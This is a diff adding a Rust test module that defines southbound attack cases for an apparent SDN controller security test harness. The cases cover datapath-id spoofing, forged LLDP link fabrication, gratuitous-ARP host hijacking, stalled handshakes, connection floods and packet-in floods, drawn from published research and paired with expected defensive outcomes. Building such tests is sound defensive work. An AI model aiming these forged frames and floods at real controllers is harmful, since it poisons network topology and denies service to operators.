@@ -1,0 +1,104 @@
+//! Network-level cases: the southbound attacks an emulated switch can mount. Sources: DELTA
+//! (Lee et al., "DELTA: A Security Assessment Framework for Software-Defined Networks",
+//! NDSS 2017: switch identification spoofing, handshake manipulation, control-message
+//! flooding), TopoGuard (Hong et al., "Poisoning Network Visibility in Software-Defined
+//! Networks", NDSS 2015: link fabrication with forged LLDP, host location hijacking),
+//! AVANT-GUARD (Shin et al., CCS 2013: data-to-control-plane saturation) and RFC 8456 §5.3.2.
+
+use crate::bytes::{emit, packet_in};
+use crate::{Applies, Case, Ctx, Step};
+use ofwire::frame::lldp::Lldp;
+use ofwire::{Body, Hello};
+
+/// Source MAC of LLDP frames the attacker forges (locally administered).
+pub const FORGED_LLDP_SRC: [u8; 6] = [0x02, 0xbd, 0x11, 0xd9, 0, 1];
+
+/// How many idle TCP connections the connection flood opens (below the engine's file limit).
+pub const IDLE_CONNECTIONS: u32 = 200;
+
+fn hello(ctx: &Ctx) -> Vec<u8> {
+    emit(ctx.version, 0x0bad_0100, Body::Hello(Hello::with_versions(&[ctx.version])))
+}
+
+/// An LLDP packet-in claiming it came from `victim_dpid` port 1, received on our port 1.
+pub fn forged_lldp(ctx: &Ctx) -> Vec<u8> {
+    let frame = ofwire::frame::build::lldp_frame(FORGED_LLDP_SRC, &Lldp::for_port(ctx.victim_dpid, 1));
+    packet_in(ctx.version, 0x0bad_0101, 1, frame)
+}
+
+/// A gratuitous ARP from the victim switch's host 0 (its MAC and IP), seen on our port 1.
+pub fn hijacking_arp(ctx: &Ctx) -> Vec<u8> {
+    let mac = ofswitch::frames::host_mac(ctx.victim_index, 0);
+    let ip = ofswitch::frames::host_ip(ctx.victim_index, 0, ctx.macs);
+    packet_in(ctx.version, 0x0bad_0102, 1, ofwire::frame::build::gratuitous_arp(mac, ip))
+}
+
+pub static ATTACKS: &[Case] = &[
+    Case { name: "duplicate-dpid", family: "network", applies: Applies::Both,
+        what: "a second switch completes the handshake with the datapath id of a background switch that is up",
+        source: "DELTA (NDSS 2017) switch identification spoofing",
+        expect: "one of the two sessions refused or closed, or both kept; the victim's service must go on",
+        script: |c| vec![Step::Handshake { dpid: c.victim_dpid }] },
+    Case { name: "fabricated-lldp", family: "network", applies: Applies::Both,
+        what: "an LLDP packet-in, forged to say it left the victim's port 1, arriving on the attacker's port 1 (a link that does not exist); repeated 3 times",
+        source: "TopoGuard (NDSS 2015) link fabrication",
+        expect: "no link in the controller's topology view (judged from the topology view where the controller has one)",
+        script: |c| vec![Step::Handshake { dpid: c.dpid }, Step::Send(forged_lldp(c)), Step::Send(forged_lldp(c)), Step::Send(forged_lldp(c))] },
+    Case { name: "host-hijack", family: "network", applies: Applies::Both,
+        what: "a gratuitous ARP with a background switch's host MAC and IP, arriving on the attacker's port 1 (the host seems to move)",
+        source: "TopoGuard (NDSS 2015) host location hijacking",
+        expect: "the move refused or verified; traffic to that host must not follow the attacker (judged from flows/host view)",
+        script: |c| vec![Step::Handshake { dpid: c.dpid }, Step::Send(hijacking_arp(c))] },
+    Case { name: "handshake-never-finished", family: "network", applies: Applies::Both,
+        what: "HELLO, then never a features reply nor an echo reply",
+        source: "DELTA (NDSS 2017) handshake manipulation",
+        expect: "the session closed after a timeout; nobody else notices",
+        script: |c| vec![Step::Send(hello(c))] },
+    Case { name: "no-hello", family: "network", applies: Applies::Both,
+        what: "a TCP connection that never sends a byte",
+        source: "RFC 8456 §5.3.2 (sessions that never start)",
+        expect: "the session closed after a timeout, or held idle; nobody else notices",
+        script: |_| vec![Step::IdleConnections { n: 1 }] },
+    Case { name: "connection-flood", family: "network", applies: Applies::Both,
+        what: "200 TCP connections that never send HELLO, held open",
+        source: "RFC 8456 §5.3.2 (denial of service); DELTA control-channel flooding",
+        expect: "the legitimate switches keep their service",
+        script: |_| vec![Step::IdleConnections { n: IDLE_CONNECTIONS }] },
+    Case { name: "packet-in-flood", family: "network", applies: Applies::Both,
+        what: "after the handshake, packet-ins with a new source MAC each, back to back for the whole observation window",
+        source: "AVANT-GUARD (CCS 2013) control-plane saturation; DELTA flow-rule flooding; RFC 8456 §5.3.2",
+        expect: "the other switches' service degrades gracefully, not to zero",
+        script: |c| vec![Step::Handshake { dpid: c.dpid }, Step::Flood] },
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn forged_lldp_names_the_victim() {
+        let c = Ctx { victim_dpid: 0x42, ..Ctx::default() };
+        let m = ofwire::Message::parse(&forged_lldp(&c)).unwrap();
+        let Body::PacketIn(p) = m.body else { panic!() };
+        let f = ofwire::frame::parse(&p.data).unwrap();
+        let text = format!("{f:?}");
+        assert!(text.to_lowercase().contains("lldp"), "{text}");
+        let l = Lldp::parse(&p.data[14..]).unwrap();
+        assert_eq!((l.dpid(), l.port_no()), (Some(0x42), Some(1)));
+    }
+
+    #[test]
+    fn hijacking_arp_uses_the_victims_host() {
+        let c = Ctx { victim_index: 3, ..Ctx::default() };
+        let m = ofwire::Message::parse(&hijacking_arp(&c)).unwrap();
+        let Body::PacketIn(p) = m.body else { panic!() };
+        assert_eq!(&p.data[6..12], &ofswitch::frames::host_mac(3, 0));
+        assert_eq!(p.port(ofwire::version::Version::V13), Some(1));
+    }
+
+    #[test]
+    fn duplicate_dpid_handshakes_as_the_victim() {
+        let c = Ctx { victim_dpid: 7, ..Ctx::default() };
+        assert_eq!((crate::find("duplicate-dpid").unwrap().script)(&c), vec![Step::Handshake { dpid: 7 }]);
+    }
+}
